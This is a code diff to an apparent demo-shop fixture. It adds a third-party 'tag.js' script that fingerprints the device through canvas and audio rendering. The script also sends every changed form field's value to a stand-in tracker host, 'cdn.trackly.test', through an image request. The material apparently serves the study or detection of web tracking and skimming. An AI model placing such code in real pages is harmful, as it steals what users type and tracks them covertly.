@@ -14,10 +14,36 @@ from examples.demo_shop.content import Document
 
 _LIFETIME = dt.timedelta(days=180)
 
+# Takes marks of the device, listens to everything, and tells what is typed as it is typed.
 _TAG = Document(
-    b'document.documentElement.dataset.trackly = "seen";\n',
+    b"""document.documentElement.dataset.trackly = "seen";
+(async () => {
+  const canvas = document.createElement("canvas");
+  canvas.width = 240;
+  canvas.height = 60;
+  const pen = canvas.getContext("2d");
+  pen.fillText("Sphinx of black quartz, judge my vow", 4, 20);
+  for (let size = 1; size <= 60; size++) {
+    pen.font = `${size}px sans-serif`;
+    pen.measureText("mmm");
+  }
+  const picture = canvas.toDataURL();
+  const sound = new OfflineAudioContext(1, 4410, 44100);
+  sound.createOscillator().connect(sound.destination);
+  await sound.startRendering();
+  document.documentElement.dataset.tracklyMarks = String(picture.length);
+})();
+for (const kind of ["keydown", "pointermove", "input"]) {
+  document.addEventListener(kind, () => {});
+}
+document.addEventListener("change", (event) => {
+  const typed = encodeURIComponent(event.target.value);
+  new Image().src = `https://cdn.trackly.test/heard.svg?v=${typed}`;
+});
+""",
     "text/javascript",
 )
+_WIDGET = Document(b'document.documentElement.dataset.widget = "2.3.1";\n', "text/javascript")
 _REVIEWS = Document(
     b'document.documentElement.dataset.reviews = "loaded";\n',
     "text/javascript",
@@ -70,7 +96,13 @@ class ThirdParty:
 
 def third_parties() -> tuple[ThirdParty, ...]:
     """The three hosts that HurryMart's pages refer to."""
-    tracker = {"/tag.js": _TAG, "/reviews.js": _REVIEWS, "/badge.svg": _BADGE}
+    tracker = {
+        "/tag.js": _TAG,
+        "/reviews.js": _REVIEWS,
+        "/badge.svg": _BADGE,
+        "/heard.svg": _PIXEL,
+        "/widgets@2.3.1/widget.js": _WIDGET,
+    }
     return (
         ThirdParty("cdn.trackly.test", tracker, cookie="trackly_id"),
         ThirdParty("ads.gridads.test", {"/pixel.svg": _PIXEL}),
